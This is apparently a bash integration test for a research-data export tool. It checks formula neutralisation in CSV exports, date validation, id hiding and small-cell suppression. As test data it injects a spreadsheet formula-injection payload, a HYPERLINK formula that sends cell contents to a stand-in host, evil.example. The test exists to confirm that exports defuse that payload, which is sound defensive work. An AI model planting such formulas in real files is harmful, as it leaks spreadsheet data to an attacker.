#!/usr/bin/env bash
# Research workspace, what leaves it: spreadsheet formulas in open text are
# neutralised in the CSV files (numbers stay numbers, the .sav keeps the text),
# bad periods get a 400 with a message (page and command line), secondarily
# suppressed cells say "verborgen", the assessment pages are in the menu and
# show no finer date or size than the exports, the .sav ids are whole numbers.
. "$(dirname "$0")/lib.sh"
new_db
demo_init
rpw=$(demo_password onderzoeker@demo.example)
"$FPHC_BIN" demo seed --companies 30 --scans-per-company 2 --seed 11 --quiet >/dev/null 2>&1
sid=$(psql_q "SELECT min(rr.scan_id) FROM research_rows rr JOIN scans s ON s.id = rr.scan_id JOIN organisations o ON o.id = s.org_id WHERE o.share_open_text AND o.share_research")
check "a scan of an association that shares open text" test -n "$sid"
evil='=HYPERLINK("http://evil.example/?x="&A1,"klik")'
psql_owner "UPDATE research_rows SET answers = jsonb_set(jsonb_set(answers::jsonb, '{s90}', to_jsonb('$(printf %s "$evil" | sed "s/'/''/g")'::text)), '{e90}', to_jsonb('-2+3'::text))::text WHERE scan_id = $sid" >/dev/null
"$FPHC_BIN" export --format csv --version 1 -o "$WORK/w.csv" 2>/dev/null
"$FPHC_BIN" export --format long --version 1 -o "$WORK/l.csv" 2>/dev/null
"$FPHC_BIN" export --format sav --version 1 -o "$WORK/x.sav" 2>/dev/null
"$FPHC_BIN" export --format codebook --version 1 -o "$WORK/cb.csv" 2>/dev/null
check "wide CSV: formula text starts with an apostrophe, negative missing codes stay numbers" python3 - "$WORK/w.csv" "$evil" <<'PY'
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline='', encoding='utf-8')))
evil = sys.argv[2]
hit = [r for r in rows if r['s90'].endswith(evil)]
assert len(hit) == 1 and hit[0]['s90'] == "'" + evil, [r['s90'] for r in rows if 'HYPER' in r['s90']]
assert hit[0]['e90'] == "'-2+3", hit[0]['e90']
for r in rows:
    for k, v in r.items():
        if v[:1] in ('=', '+', '@', '\t', '\r'):
            raise SystemExit('unneutralised %s=%r' % (k, v))
        if v.startswith('-'):
            float(v)  # only numbers may start with '-'
assert any(v == '-1' for r in rows for v in r.values()), 'a missing code -1 as a number'
PY
check "long CSV: the same, in the answer column" python3 - "$WORK/l.csv" "$evil" <<'PY'
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline='', encoding='utf-8')))
assert any(r['answer'] == "'" + sys.argv[2] for r in rows)
for r in rows:
    for k, v in r.items():
        assert v[:1] not in ('=', '+', '@', '\t', '\r'), (k, v)
        if v.startswith('-'):
            float(v)
PY
check "no database id in any export: scans are numbered 1..n within their company, ids appear nowhere" python3 - "$WORK/w.csv" "$WORK/l.csv" "$(psql_q "SELECT string_agg(id::text, ' ') FROM scans WHERE id > 2")" <<'PY'
import csv, sys
ids = set(sys.argv[3].split())
for path in sys.argv[1:3]:
    per = {}
    for r in csv.DictReader(open(path, newline='', encoding='utf-8')):
        per.setdefault(r['pseudonym'], set()).add(int(r['scan']))
        assert r['scan'] not in ids, (path, r['scan'])
    assert all(s == set(range(1, len(s) + 1)) for s in per.values()), per
    assert any(len(s) == 2 for s in per.values()), 'repeat scans pair under one pseudonym'
PY
check "long file: the same codes as the wide file, cell for cell (options as in the wide file)" python3 - "$WORK/w.csv" "$WORK/l.csv" "$WORK/cb.csv" <<'PY'
import csv, sys
wide = {(r['pseudonym'], r['scan']): r for r in csv.DictReader(open(sys.argv[1], newline='', encoding='utf-8'))}
cb = {r['variable']: r for r in csv.DictReader(open(sys.argv[3], newline='', encoding='utf-8'))}
n = 0
for r in csv.DictReader(open(sys.argv[2], newline='', encoding='utf-8')):
    w = wide[(r['pseudonym'], r['scan'])]
    assert w[r['item']] == r['answer'], (r['scan'], r['item'], w[r['item']], r['answer'])
    base = cb[r['item']]['item']
    if cb[r['item']]['type'] == 'numeric':
        assert w[base + '_score'] == r['score'], (r['item'], w[base + '_score'], r['score'])
        assert r['answer'] != '' and r['score'] != ''
    n += 1
assert n > 1000, n
assert any(r for r in cb if r.startswith('s13_'))
PY
check "codebook: categories of sector, size class and region, range and unit of number items, missing codes, F8.0 ids" python3 - "$WORK/cb.csv" questionnaires/fphc-1.json <<'PY'
import csv, json, sys
cb = {r['variable']: r for r in csv.DictReader(open(sys.argv[1], newline='', encoding='utf-8'))}
assert cb['sector']['value_labels'].startswith('A=') and 'U=' in cb['sector']['value_labels'], cb['sector']
assert 'fte_200_plus=' in cb['size_class']['value_labels'] and 'fte_10_49=' in cb['size_class']['value_labels']
assert cb['region']['value_labels'] != ''
assert cb['scan']['format'] == 'F8.0' and cb['version']['format'] == 'F8.0' and cb['s02']['format'] == 'F8.0'
assert cb['s02']['range'] == '1..5' and cb['overall']['range'] == '0..100' and cb['s02_score']['range'] == '0..1'
q = json.load(open(sys.argv[2]))
nums = [i for p in q['pillars'] for t in p['themes'] for i in t['items'] if i['type'] == 'number']
assert nums
for i in nums:
    r = cb[i['key']]
    assert r['range'].startswith(str(i.get('min', '')).rstrip('0').rstrip('.') if 'min' in i else '') and '..' in r['range'], (i, r['range'])
    assert r['unit'] == i.get('unit', ''), (i.get('unit'), r['unit'])
assert '-1=niet beantwoord' in cb['s02']['missing_codes'] and '-3=' in cb['overall']['missing_codes']
PY
check "wide CSV: every number is the shortest text that reads back (as Python's repr)" python3 - "$WORK/w.csv" <<'PY'
import csv, sys
for r in csv.DictReader(open(sys.argv[1], newline='', encoding='utf-8')):
    for k, v in r.items():
        try:
            f = float(v)
        except ValueError:
            continue
        if '.' in v:
            assert v == repr(f), (k, v, repr(f))
PY
check "the .sav keeps the text as typed; ids are F8.0" Rscript -e "suppressWarnings(library(haven)); d <- read_sav('$WORK/x.sav', user_na=TRUE); stopifnot(any(d\$s90 == '$(printf %s "$evil" | sed "s/\"/\\\\\"/g")')); stopifnot(attr(d\$scan, 'format.spss') == 'F8.0'); stopifnot(attr(d\$s02, 'format.spss') == 'F8.0')"
grep -c "HYPERLINK" "$WORK/w.csv" >/dev/null
# bad periods on the command line
out=$("$FPHC_BIN" export --format csv --version 1 --from 2026-02-31 -o "$WORK/bad.csv" 2>&1); rc=$?
expect_eq "CLI: a day that does not exist is a usage error" 2 "$rc"
expect_contains "CLI: and says so" "real date" "$out"
out=$("$FPHC_BIN" export --format csv --version 1 --from 2026-03-01 --to 2026-02-01 -o "$WORK/bad.csv" 2>&1); rc=$?
expect_eq "CLI: from after to is a usage error" 2 "$rc"
expect_contains "CLI: and says so" "is after --to" "$out"

# k just above the smallest cell that is alone in its dimension: that cell
# would be computable from the total, so a second cell is hidden with it
k=$(psql_q "SELECT min(n) + 1 FROM (SELECT dimension, n, count(*) OVER (PARTITION BY dimension, n) AS same,
  min(n) OVER (PARTITION BY dimension) AS least FROM research_aggregates WHERE level = 'overall' AND cell <> '') c
  WHERE n = least AND same = 1 AND n >= 1")
check "a dimension has one smallest cell (k = $k)" test -n "$k"
FPHC_BENCHMARK_K=${k:-2} start_server
http_login --data-urlencode "email=onderzoeker@demo.example" --data-urlencode "password=$rpw" --data "next=/research"
http GET /research/exports; csrf=$(form_csrf)
http POST /research/exports --data "csrf=$csrf&version=1&format=csv&from=2026-02-31"
expect_eq "page: from=2026-02-31 is 400" 400 "$STATUS"
expect_contains "page: with the message next to the field" "Vul een datum in als" "$BODY"
http POST /research/exports --data "csrf=$csrf&version=1&format=csv&from=2026-03-01&to=2026-02-01"
expect_eq "page: from after to is 400" 400 "$STATUS"
expect_contains "page: with a message" "De einddatum ligt voor de begindatum" "$BODY"
http POST /research/exports --data "csrf=$csrf&version=1&format=csv&from=2024-02-29&to=2999-12-31"
expect_eq "page: a leap day is a date" 200 "$STATUS"
expect_eq "no export ended as a database error" 0 "$(grep -c '"status":503' "$WORK/server.log")"

http GET /research; expect_contains "the research menu links the assessment pages" 'href="/research/scans"' "$BODY"
http GET /research/scans; expect_eq "assessment list is 200" 200 "$STATUS"
check "the list shows months, no days" python3 -c "
import re, sys
b = open('$WORK/body', encoding='utf-8').read()
assert re.search(r'<td[^>]*>20\d\d-\d\d</td>', b), b[:2000]
assert not re.search(r'20\d\d-\d\d-\d\d', b)"
first=$(grep -o 'href="/research/scans/[0-9a-f]\{16\}-[0-9]*"' "$WORK/body" | head -n 1 | sed 's/href="\(.*\)"/\1/')
http GET "$first"; expect_eq "a research scan page is 200" 200 "$STATUS"
check "the scan page shows the month and the size class, not the date or the FTE" python3 -c "
import re
b = open('$WORK/body', encoding='utf-8').read()
assert not re.search(r'20\d\d-\d\d-\d\d', b), re.findall(r'20\d\d-\d\d-\d\d', b)
assert re.search(r'(10 tot 50 fte|50 tot 100 fte|100 tot 200 fte|200 fte of meer)', b), 'size class by its label'
assert not re.search(r'fte_(10_49|50_99|100_199|200_plus)', b), 'not by its key'
assert 'FTE' not in b and not re.search(r'(?<!tot )\b\d+([.,]\d+)? fte<', b)"

# secondary suppression: a small k cell hides a second one, which says "verborgen"
http GET /api/v1/research/aggregates
secondary=$(python3 -c "
import json, sys
j = json.load(open('$WORK/body'))
def walk(o):
    if isinstance(o, dict):
        if o.get('suppressed') == 'secondary': yield o
        for v in o.values(): yield from walk(v)
    elif isinstance(o, list):
        for v in o: yield from walk(v)
print(sum(1 for _ in walk(j)))")
check "the demo data have a secondarily suppressed cell" test "$secondary" -gt 0
http GET /research/aggregates
expect_contains "it says verborgen" ">verborgen<" "$BODY"
http GET "/research/aggregates?dimension=size_class"
check "size classes by label and in the questionnaire's order" python3 -c "
import re
b = open('$WORK/body', encoding='utf-8').read()
rows = re.findall(r'<th scope=\"row\">([^<]*)</th>', b)
order = ['10 tot 50 fte (ook minder dan 10)', '50 tot 100 fte', '100 tot 200 fte', '200 fte of meer']
seen = [r for r in rows if r in order]
assert len(seen) >= 2, rows
assert seen == sorted(seen, key=order.index), seen
assert not any(r.startswith('fte_') for r in rows), rows
assert re.search(r'>\d+(–\d+|\+) fte</text>', b), 'short labels in the chart'"
http GET "/research/aggregates?dimension=sector"
expect_contains "sectors by name beside the letter" "C – Industrie" "$BODY"
finish
